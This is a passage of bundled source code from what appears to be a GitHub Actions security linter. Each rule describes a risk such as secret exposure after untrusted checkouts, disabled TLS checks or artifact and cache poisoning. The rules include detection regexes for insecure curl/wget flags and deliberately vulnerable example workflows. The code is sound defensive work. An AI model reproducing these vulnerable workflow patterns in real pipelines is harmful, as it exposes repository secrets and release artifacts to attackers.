          ref: \${{ github.head_ref }}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-untrusted-checkout-secrets.ts
var gha_untrusted_checkout_secrets_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout-secrets",
    title: "Secrets used after checking out pull request code",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "Once a `pull_request_target`, `workflow_run` or `issue_comment` job has checked out a pull request's code, every later step shares the runner with it: files the pull request planted (a `.npmrc`, a git hook, a replaced binary on the path) run with whatever the step is given. Secrets passed to those steps are as good as handed to the pull request's author.",
    remediation: "Split the work: one unprivileged `pull_request` job handles the untrusted code, a separate job that never checks it out uses the secrets. Never pass secrets to steps that run after an untrusted checkout.",
    precision: "medium",
    cwe: ["CWE-200", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "secrets", "pull_request_target", "ci-untrusted-checkout"],
    references: ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"]
  },
  check(step, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(step, graph)), PRIVILEGED_UNTRUSTED_TRIGGERS);
    const job = jobOf(step, graph);
    if (!trigger || !job) return;
    const checkout = firstUntrustedCheckout(job, graph);
    if (!checkout || stepsOf(job, graph).indexOf(step) <= checkout.index) return;
    if (trigger === "issue_comment" && commenterChecked(job, checkout.step, graph)) return;
    const secret = allExpressions(step).find(({ expression }) => /\bsecrets\s*(?:\.|\[)/.test(expression) && !/\bsecrets\.GITHUB_TOKEN\b/i.test(expression));
    if (!secret) return;
    report({
      at: secret.path,
      range: secret.range,
      message: `\${{ ${secret.expression} }} is given to a step that runs after untrusted pull request code was checked out in this ${trigger} job`,
      related: [{ resource: checkout.step.id, at: checkout.checkout.at, message: `untrusted checkout (${checkout.checkout.what})` }]
    });
  },
  examples: {
    valid: [
      {
        name: "secret used before the checkout of the head",
        filename: ".github/workflows/label.yml",
        code: `on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: ./notify.sh
        env:
          SLACK_WEBHOOK: \${{ secrets.SLACK_WEBHOOK }}
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          path: head
`
      }
    ],
    invalid: [
      {
        name: "publishing a preview with a deploy token",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npx netlify deploy --dir site
        env:
          NETLIFY_AUTH_TOKEN: \${{ secrets.NETLIFY_AUTH_TOKEN }}
`,
        errors: [{ line: 11, column: 31, messageIncludes: "secrets.NETLIFY_AUTH_TOKEN" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/encryption/gha-tls-verification-disabled.ts
var INSECURE_TLS = [
  [/\bcurl\b[^\n|;&]*\s(?:-k|--insecure)\b/, "curl --insecure"],
  [/\bcurl\b[^\n|;&]*\s-[a-zA-Z]*k[a-zA-Z]*\b/, "curl -k"],
  [/\bwget\b[^\n|;&]*--no-check-certificate\b/, "wget --no-check-certificate"],
  [/\bgit\b[^\n]*http\.sslVerify[=\s]+false\b/i, "git http.sslVerify false"],
  [/\bGIT_SSL_NO_VERIFY=(?:1|true)\b/i, "GIT_SSL_NO_VERIFY"],
  [/\bNODE_TLS_REJECT_UNAUTHORIZED=["']?0\b/, "NODE_TLS_REJECT_UNAUTHORIZED=0"],
  [/\bnpm\s+config\s+set\s+strict-ssl\s+false\b/, "npm strict-ssl false"],
  [/\bpip3?\b[^\n]*--trusted-host\b/, "pip --trusted-host"],
  [/\bPYTHONHTTPSVERIFY=["']?0\b/, "PYTHONHTTPSVERIFY=0"]
];
var INSECURE_ENV = /* @__PURE__ */ new Map([
  ["NODE_TLS_REJECT_UNAUTHORIZED", /^0$/],
  ["GIT_SSL_NO_VERIFY", /^(?:1|true)$/i],
  ["PYTHONHTTPSVERIFY", /^0$/]
]);
var gha_tls_verification_disabled_default = defineRule({
  meta: {
    id: "gha-tls-verification-disabled",
    title: "TLS certificate verification disabled in a workflow",
    severity: "medium",
    category: "encryption",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "Turning off certificate checks (`curl -k`, `wget --no-check-certificate`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`) lets anyone on the network path impersonate the server: downloads can be replaced and credentials sent over that connection read, while the job still holds its token and secrets.",
    remediation: "Remove the switch; if the server uses a private certificate authority, trust that authority explicitly (`--cacert`, `NODE_EXTRA_CA_CERTS`, `http.sslCAInfo`).",
    precision: "high",
    cwe: ["CWE-295"],
    tags: ["actions", "tls", "encryption-in-transit"],
    references: ["https://curl.se/docs/sslcerts.html"]
  },
  check(resource, { report }) {
    const env = resource.attributes.env;
    if (isObject(env)) {
      for (const [name, value] of Object.entries(env)) {
        const insecure = INSECURE_ENV.get(name.toUpperCase());
        if (insecure && (typeof value === "string" || typeof value === "number" || typeof value === "boolean") && insecure.test(String(value))) {
          report({ at: ["env", name], message: `${name}=${String(value)} disables TLS certificate verification for ${resource.name}` });
        }
      }
    }
    if (resource.type !== "step") return;
    const script = runScript(resource);
    if (script === void 0) return;
    const found = INSECURE_TLS.find(([pattern]) => pattern.test(script));
    if (found) report({ at: ["run"], message: `the run script disables TLS certificate verification (${found[1]}), so downloads and credentials can be intercepted` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  fetch:
    runs-on: ubuntu-latest
    env:
      NODE_EXTRA_CA_CERTS: /etc/ssl/internal-ca.pem
    steps:
      - run: curl -fsSL --cacert internal-ca.pem -o tool.tgz https://artifacts.internal.example/tool.tgz
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  fetch:
    runs-on: ubuntu-latest
    env:
      NODE_TLS_REJECT_UNAUTHORIZED: "0"
    steps:
      - run: curl -fsSLk -o tool.tgz https://artifacts.internal.example/tool.tgz
`,
        errors: [
          { line: 6, column: 7, messageIncludes: "NODE_TLS_REJECT_UNAUTHORIZED" },
          { line: 8, column: 9, messageIncludes: "curl -k" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-action-not-pinned.ts
var gha_action_not_pinned_default = defineRule({
  meta: {
    id: "gha-action-not-pinned",
    title: "Action or reusable workflow not pinned to a commit SHA",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step", "job"],
    description: "`uses:` names a tag or a branch. Tags and branches move: whoever controls the action's repository (or steals its maintainer's token, as in the tj-actions/changed-files compromise) changes the code this workflow runs, with its secrets and token. Only a full 40-character commit SHA is immutable.",
    remediation: "Pin to the full commit SHA of the release and keep the version in a comment (`uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`); let Dependabot or Renovate update the pins. Owners you trust can be allowed with the rule option `trustedOwners`.",
    precision: "very-high",
    cwe: ["CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "pinning", "unpinned-dependency"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"]
  },
  check(resource, { report, options }) {
    const value = resource.attributes.uses;
    if (typeof value !== "string") return;
    const uses = parseUses(value);
    if (uses.kind !== "repository" && uses.kind !== "reusable-workflow") return;
    if (uses.ref !== void 0 && /^[0-9a-f]{40}$/i.test(uses.ref)) return;
    const trusted = Array.isArray(options.trustedOwners) ? options.trustedOwners.map((owner) => String(owner).toLowerCase()) : [];
    if (trusted.includes(uses.owner.toLowerCase())) return;
    const what = uses.ref === void 0 ? "has no ref at all" : `is pinned to the mutable ref "${uses.ref}"`;
    report({ at: ["uses"], message: `${value} ${what}; pin it to a full commit SHA` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: ./.github/actions/setup
      - uses: docker://alpine@sha256:56fa17d2a7e7f168a043a2712e63aed1f8543aeafdcee47c58dcffe38ed51099
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: some-org/deploy-action@main
  release:
    uses: some-org/workflows/.github/workflows/release.yml@v1
`,
        errors: [
          { line: 6, column: 9, messageIncludes: '"v4"' },
          { line: 7, column: 9, messageIncludes: '"main"' },
          { line: 9, column: 5 }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-artifact-poisoning.ts
function downloadsForeignArtifact(step) {
  const name = actionName(step);
  if (name === "dawidd6/action-download-artifact" || name === "bettermarks/action-artifact-download") return true;
  if (name === "actions/download-artifact") return stepInput(step, "run-id") !== void 0;
  if (name === "actions/github-script") {
    const script2 = getPath(step.attributes, ["with", "script"]);
    return typeof script2 === "string" && /downloadArtifact|listWorkflowRunArtifacts/.test(script2);
  }
  const script = runScript(step);
  return script !== void 0 && /\bgh\s+run\s+download\b/.test(script);
}
function extractedOutsideWorkspace(step) {
  const path = stepInput(step, "path");
  return typeof path === "string" && /runner\.temp|RUNNER_TEMP/.test(path);
}
function usesArtifactUnsafely(step) {
  if (usesLocalAction(step)) return true;
  const script = runScript(step);
  if (script === void 0) return false;
  return /\bunzip\b|\btar\s+-?x|\bsource\b|(?:^|[\s;&|])\.\s+\S|(?:^|[\s;&|(])(?:ba)?sh\s+\S|\.\/[\w.-]+|\b(?:npm|yarn|pnpm|make|python3?|node|go|cargo|pip3?)\s|GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT|\$\(\s*cat\b/m.test(script);
}
var gha_artifact_poisoning_default = defineRule({
  meta: {
    id: "gha-artifact-poisoning",
    title: "workflow_run workflow uses artifacts from the triggering run unsafely",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "A `workflow_run` workflow runs with the repository's secrets after a `pull_request` run, whose artifacts the pull request's author fully controls. Downloading them into the workspace and then unzipping, sourcing or executing anything there lets the author overwrite scripts, inject environment variables or replace files that later steps trust (artifact poisoning).",
    remediation: "Download the artifact to `${{ runner.temp }}`, treat its content as untrusted data (validate numbers, never `source` it or write it to `$GITHUB_ENV`), and never run code from it.",
    precision: "medium",
    cwe: ["CWE-829", "CWE-494"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "workflow_run", "artifacts", "ci-untrusted-checkout"],
    references: [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#workflow_run"
    ]
  },
  check(step, { report, graph }) {
    if (!triggersOf(workflowOf(step, graph)).has("workflow_run")) return;
    if (!downloadsForeignArtifact(step) || extractedOutsideWorkspace(step)) return;
    const job = jobOf(step, graph);
    if (!job) return;
    const steps = stepsOf(job, graph);
    const consumer = steps.slice(steps.indexOf(step) + 1).find(usesArtifactUnsafely);
    if (!consumer) return;
    report({
      at: step.attributes.uses !== void 0 ? ["uses"] : ["run"],
      message: `downloads an untrusted artifact of the triggering run into the workspace, and ${consumer.name} then unpacks or executes it (artifact poisoning)`,
      related: [{ resource: consumer.id, message: "uses the artifact" }]
    });
  },
  examples: {
    valid: [
      {
        name: "artifact read as data under runner.temp",
        filename: ".github/workflows/comment.yml",
        code: `on:
  workflow_run:
    workflows: [CI]
    types: [completed]
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093
        with:
          name: coverage
          run-id: \${{ github.event.workflow_run.id }}
          github-token: \${{ github.token }}
          path: \${{ runner.temp }}/coverage
      - run: jq '.total' "$RUNNER_TEMP/coverage/summary.json"
`
      }
    ],
    invalid: [
      {
        name: "artifact unzipped in the workspace and sourced",
        filename: ".github/workflows/deploy-preview.yml",
        code: `on:
  workflow_run:
    workflows: [Build]
    types: [completed]
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: dawidd6/action-download-artifact@bf251b5aa9c2f7eeb574a96ee720e24f801b7c11
        with:
          run_id: \${{ github.event.workflow_run.id }}
          name: pr
      - run: |
          unzip pr.zip
          echo "PR_NUMBER=$(cat NR)" >> "$GITHUB_ENV"
`,
        errors: [{ line: 9, column: 9, messageIncludes: "artifact poisoning" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-cache-poisoning.ts
function releaseTrigger(workflow) {
  const triggers = triggersOf(workflow);
  if (triggers.has("release")) return "release";
  if (!triggers.has("push")) return void 0;
  const push = triggerConfig(workflow, "push");
  if (push?.tags !== void 0) return "push of tags";
  const branches = push?.branches;
  const names = typeof branches === "string" ? [branches] : Array.isArray(branches) ? branches : [];
  if (names.some((branch) => typeof branch === "string" && /^(?:main|master|release.*)$/.test(branch))) return "push to the default branch";
  return void 0;
}
var PUBLISHING_ACTIONS = /* @__PURE__ */ new Set([
  "pypa/gh-action-pypi-publish",
  "softprops/action-gh-release",
  "ncipollo/release-action",
  "goreleaser/goreleaser-action",
  "docker/build-push-action",
  "jreleaser/release-action",
  "changesets/action",
  "js-devtools/npm-publish",
  "cargo-bins/release-pr",
  "actions/attest-build-provenance"
]);
var PUBLISHING_COMMAND = /\b(?:npm|pnpm|yarn)\s+publish\b|\btwine\s+upload\b|\bcargo\s+publish\b|\bgem\s+push\b|\bdocker\s+push\b|\bgh\s+release\s+(?:create|upload)\b|\bpoetry\s+publish\b|\buv\s+publish\b|\bmvn\b[^\n]*\bdeploy\b|\bgradlew?\b[^\n]*\bpublish\b|\bdotnet\s+nuget\s+push\b|\bgoreleaser\s+release\b/;
function publishes(step) {
  const name = actionName(step);
  if (name && PUBLISHING_ACTIONS.has(name)) return name !== "docker/build-push-action" || isTrue(getPath(step.attributes, ["with", "push"]));
  const script = runScript(step);
  return script !== void 0 && PUBLISHING_COMMAND.test(script);
}
function restoresCache(step) {
  const name = actionName(step);
  if (!name) return void 0;
  if (name === "actions/cache" || name === "actions/cache/restore" || name === "swatinem/rust-cache") return { at: ["uses"], what: name };
  const input = (key) => getPath(step.attributes, ["with", key]);
  const enabled = (key) => {
    const value = input(key);
    return typeof value === "string" && value.trim() !== "" && !isFalse(value) || value === true;
  };
  if (["actions/setup-node", "actions/setup-python", "actions/setup-java"].includes(name) && enabled("cache")) return { at: ["with", "cache"], what: `${name} with cache` };
  if (name === "actions/setup-go" && !isFalse(input("cache"))) return { at: input("cache") === void 0 ? ["uses"] : ["with", "cache"], what: "actions/setup-go (caches by default)" };
  if (name === "astral-sh/setup-uv" && enabled("enable-cache")) return { at: ["with", "enable-cache"], what: "astral-sh/setup-uv with enable-cache" };
  if (name === "ruby/setup-ruby" && isTrue(input("bundler-cache"))) return { at: ["with", "bundler-cache"], what: "ruby/setup-ruby with bundler-cache" };
  if ((name === "gradle/actions/setup-gradle" || name === "gradle/gradle-build-action") && input("cache-read-only") === void 0 && !isTrue(input("cache-disabled"))) {
    return { at: ["uses"], what: `${name} (caches by default)` };
  }
  return void 0;
}
var gha_cache_poisoning_default = defineRule({
  meta: {
    id: "gha-cache-poisoning",
    title: "Release job restores a cache that other workflows can write",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "GitHub Actions caches are shared across the workflows of a branch, and a default-branch cache is visible to every branch. A workflow that runs untrusted code (a `pull_request_target` job, a compromised dependency in a test job) can write a poisoned cache entry that this release job then restores, so that the published artifact contains the attacker's code.",
    remediation: "Do not restore caches in jobs that build or publish releases: build from a clean state, or use `actions/cache/restore` only with keys that untrusted workflows cannot create, and set `cache: ''` / `cache: false` on setup actions there.",
    precision: "medium",
    cwe: ["CWE-349", "CWE-829"],
    tags: ["actions", "cache-poisoning", "ci-untrusted-checkout"],
    references: [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/caching-dependencies-to-speed-up-workflows#restrictions-for-accessing-a-cache",
      "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/"
    ]
  },
  check(step, { report, graph }) {
    const cache = restoresCache(step);
    if (!cache) return;
    const trigger = releaseTrigger(workflowOf(step, graph));
    const job = jobOf(step, graph);
    if (!trigger || !job) return;
    const steps = stepsOf(job, graph);
    const publisher = steps.slice(steps.indexOf(step) + 1).find(publishes);
    if (!publisher) return;
    report({
      at: cache.at,
      message: `${cache.what} restores a cache in a job that publishes (${publisher.name}) on ${trigger}: a poisoned cache entry ends up in the release`,
      related: [{ resource: publisher.id, message: "publishes the build" }]
    });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  release:
    types: [published]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af
        with:
          node-version: 22
      - run: npm ci && npm publish
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  push:
    tags: ["v*"]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af
        with:
          node-version: 22
          cache: npm
      - run: npm ci && npm publish
`,
        errors: [{ line: 12, column: 11, messageIncludes: "publish" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-comment-triggered-checkout.ts
var gha_comment_triggered_checkout_default = defineRule({
  meta: {
    id: "gha-comment-triggered-checkout",
    title: "Comment-triggered workflow checks out pull request code for any commenter",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "An `issue_comment` workflow runs in the base repository with its secrets and a writable token, and anyone who can comment can trigger it. Checking out the pull request's code without first checking that the commenter is a maintainer lets any user run a fork's code with those privileges by posting a comment such as `/test`.",
    remediation: `Gate the job on the commenter: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.comment.author_association)\`, or check the commenter's permission through the API before checking out. Better still, let the comment add a label or dispatch a workflow that runs without secrets.`,
    precision: "medium",
    cwe: ["CWE-829", "CWE-284"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "issue_comment", "ci-untrusted-checkout"],
    references: [
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#issue_comment",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ]
  },
  check(step, { report, graph }) {
    const triggers = triggersOf(workflowOf(step, graph));
    if (!triggers.has("issue_comment") || triggers.has("pull_request_target") || triggers.has("workflow_run")) return;
    const job = jobOf(step, graph);
    const checkout = untrustedCheckout(step);
    if (!job || !checkout || commenterChecked(job, step, graph)) return;
    report({
      at: checkout.at,
      message: `this issue_comment workflow checks out the pull request head (${checkout.what}) for any commenter, without checking author_association or permission`
    });
  },
  examples: {
    valid: [
      {
        name: "maintainers only",
        filename: ".github/workflows/retest.yml",
        code: `on: issue_comment
jobs:
  retest:
    if: >-
      github.event.issue.pull_request &&
      contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.comment.author_association)
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: refs/pull/\${{ github.event.issue.number }}/head
      - run: make test
`
      }
    ],
    invalid: [
      {
        name: "any commenter",
        filename: ".github/workflows/retest.yml",
        code: `on:
  issue_comment:
    types: [created]
jobs:
  retest:
    if: github.event.issue.pull_request && startsWith(github.event.comment.body, '/retest')
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: refs/pull/\${{ github.event.issue.number }}/merge
      - run: make test
`,
        errors: [{ line: 11, column: 11, messageIncludes: "issue_comment" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-compromised-action.ts
var gha_compromised_action_default = defineRule({
  meta: {
    id: "gha-compromised-action",
    title: "Action version known to have been compromised",
    severity: "critical",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step", "job"],
    description: "The action is referenced at a version or commit that an attacker took over, such as the tj-actions/changed-files and reviewdog/action-setup tags moved in March 2025 to code that printed every secret of the job into its public log. A workflow that ran it must assume its secrets are leaked; one that still references it is trusting a ref the maintainers have disowned.",
    remediation: "Upgrade to the first release after the incident (tj-actions/changed-files 46.0.1 or later) pinned by commit SHA, or replace the action. Rotate every secret the workflow could read while the compromised version was in use and check past run logs for leaked values.",
    precision: "very-high",
    cwe: ["CWE-506", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies", "Vulnerabilities"] },
    tags: ["actions", "compromised", "vulnerable-component"],
    references: [
      "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
      "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-tj-actionschanged-files-cve-2025-30066-and-reviewdogaction"
    ]
  },
  check(resource, { report }) {
    const target = remoteTarget(resource);
    if (!target) return;
    const advisory = advisoryFor(COMPROMISED_ACTIONS, target.name, target.ref);
    if (!advisory) return;
    report({ at: ["uses"], message: `${target.name}@${target.ref} is a known-compromised version, ${advisory.id}: ${advisory.summary}` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/changes.yml",
        code: `on: pull_request
jobs:
  changes:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@2f7c5bfce28377bc069a65ba478de0a74aa0ca32
      - uses: tj-actions/changed-files@v46
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/changes.yml",
        code: `on: pull_request
jobs:
  changes:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@v44
      - uses: reviewdog/action-setup@v1
`,
        errors: [
          { line: 6, column: 9, messageIncludes: "CVE-2025-30066" },
          { line: 7, column: 9, messageIncludes: "CVE-2025-30154" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-container-image-not-pinned.ts
function imageOf(value) {
  if (typeof value === "string") return { image: value, at: [] };
  if (isObject(value) && typeof value.image === "string") return { image: value.image, at: ["image"] };
  return void 0;
}
var gha_container_image_not_pinned_default = defineRule({
  meta: {
    id: "gha-container-image-not-pinned",
    title: "Job container, service or docker action image not pinned to a digest",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["job", "step"],
    description: "A job's `container:`, its `services:` and `docker://` steps pull images by tag. Tags can be pushed again, so whoever controls the image (or its registry account) changes the code that runs with the job's token and secrets, without any change to the workflow.",
    remediation: "Reference images by digest, keeping the tag for readers: `image: node:20.11-bookworm@sha256:…`; let Dependabot or Renovate update digests.",
    precision: "very-high",
    cwe: ["CWE-829", "CWE-1357"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "containers", "pinning", "unpinned-dependency"],
    references: ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idcontainer"]
  },
  check(resource, { report }) {
    const check = (image, at, what) => {
      if (image.includes("${{") || image.includes("@sha256:")) return;
      report({ at, message: `${what} image ${image} is not pinned to a digest (tag ${image.includes(":") ? "can move" : "missing, so latest"})` });
    };
    if (resource.type === "step") {
      const uses = resource.attributes.uses;
      if (typeof uses === "string" && parseUses(uses).kind === "docker") check(uses.slice("docker://".length), ["uses"], "docker action");
      return;
    }
    const container = imageOf(resource.attributes.container);
    if (container) check(container.image, ["container", ...container.at], "job container");
    const services = resource.attributes.services;
    if (isObject(services)) {
      for (const [name, service] of Object.entries(services)) {
        const found = imageOf(service);
        if (found) check(found.image, ["services", name, ...found.at], `service "${name}"`);
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    container:
      image: node:20-bookworm@sha256:9b2a6f2b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f
    services:
      db:
        image: \${{ matrix.database }}
    steps:
      - uses: docker://alpine@sha256:56fa17d2a7e7f168a043a2712e63aed1f8543aeafdcee47c58dcffe38ed51099
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    container: node:20-bookworm
    services:
      postgres:
        image: postgres:16
    steps:
      - uses: docker://ghcr.io/acme/linter
`,
        errors: [
          { line: 5, column: 5, messageIncludes: "node:20-bookworm" },
          { line: 8, column: 9, messageIncludes: "postgres:16" },
          { line: 10, column: 9, messageIncludes: "latest" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-deprecated-action-version.ts
var FIRST_SUPPORTED_MAJOR = /* @__PURE__ */ new Map([
  ["actions/checkout", { major: 4, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/upload-artifact", { major: 4, why: "uses the artifact service GitHub retired in 2025" }],
  ["actions/download-artifact", { major: 4, why: "uses the artifact service GitHub retired in 2025" }],
  ["actions/cache", { major: 4, why: "runs on an end-of-life Node.js runtime or a retired cache service" }],
  ["actions/setup-node", { major: 4, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/setup-python", { major: 5, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/setup-java", { major: 4, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/setup-go", { major: 5, why: "runs on an end-of-life Node.js runtime" }],
  ["actions/github-script", { major: 7, why: "runs on an end-of-life Node.js runtime" }]
]);
var ARCHIVED = /* @__PURE__ */ new Set(["actions/create-release", "actions/upload-release-asset", "actions/setup-ruby", "actions/setup-elixir", "actions/setup-haskell"]);
var gha_deprecated_action_version_default = defineRule({
  meta: {
    id: "gha-deprecated-action-version",
    title: "Deprecated or archived action version",
    severity: "low",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "The step uses a major version of an official action that is deprecated (it runs on an end-of-life Node.js runtime or calls a retired service) or an action that is archived. Such versions get no security fixes, and GitHub forces or breaks them over time.",
    remediation: "Upgrade to the current major version of the action (or its maintained replacement) and pin it by commit SHA.",
    precision: "high",
    cwe: ["CWE-1104"],
    tags: ["actions", "deprecated-version"],
    references: ["https://github.blog/changelog/2024-03-07-github-actions-all-actions-will-run-on-node20-instead-of-node16-by-default/"]
  },
  check(step, { report }) {
    const target = remoteTarget(step);
    if (!target) return;
    if (ARCHIVED.has(target.name)) {
      report({ at: ["uses"], message: `${target.name} is archived and unmaintained (deprecated); use a maintained replacement` });
      return;
    }
    const supported = FIRST_SUPPORTED_MAJOR.get(target.name);
    const major = target.ref !== void 0 ? /^v(\d+)(?:\.\d+){0,2}$/.exec(target.ref)?.[1] : void 0;
    if (!supported || major === void 0 || Number(major) >= supported.major) return;
    report({ at: ["uses"], message: `${target.name}@${target.ref} is a deprecated major version that ${supported.why}; upgrade to v${supported.major} or later` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v2
      - uses: actions/upload-artifact@v3.1.3
      - uses: actions/create-release@v1
`,
        errors: [
          { line: 6, column: 9, messageIncludes: "deprecated" },
          { line: 7, column: 9, messageIncludes: "artifact service" },
          { line: 8, column: 9, messageIncludes: "archived" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-dispatch-input-injection.ts
function freeTextInputs(workflow) {
  const inputs = getPath(triggerConfig(workflow, "workflow_dispatch"), ["inputs"]);
  const names = /* @__PURE__ */ new Set();
  if (!isObject(inputs)) return names;
  for (const [name, input] of Object.entries(inputs)) {
    const type = isObject(input) ? input.type : void 0;
    if (type === void 0 || type === "string") names.add(name.toLowerCase());
  }
  return names;
}
function dispatchedValues(expression, freeText) {
  const normalised = expression.replace(/\[\s*'([^']*)'\s*\]/g, ".$1").replace(/\[\s*"([^"]*)"\s*\]/g, ".$1");
  const found = [];
  for (const match of normalised.matchAll(/(?<![\w.])(?:github\.event\.)?inputs\.([\w-]+)/g)) {
    if (freeText.has(match[1].toLowerCase())) found.push(match[0]);
  }
  for (const match of normalised.matchAll(/(?<![\w.])github\.event\.client_payload(?:\.[\w-]+)*/g)) found.push(match[0]);
  return found;
}
var gha_dispatch_input_injection_default = defineRule({
  meta: {
    id: "gha-dispatch-input-injection",
    title: "Manually dispatched input expanded into a script",
    severity: "low",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "A free-text `workflow_dispatch` input, or a `repository_dispatch` client payload, is pasted into a shell script before it runs. Only users and tokens with write access can dispatch, but a quote or `$(…)` in the value still runs as code with the workflow's secrets, which may be more than the dispatcher should hold (environment secrets, deploy keys).",
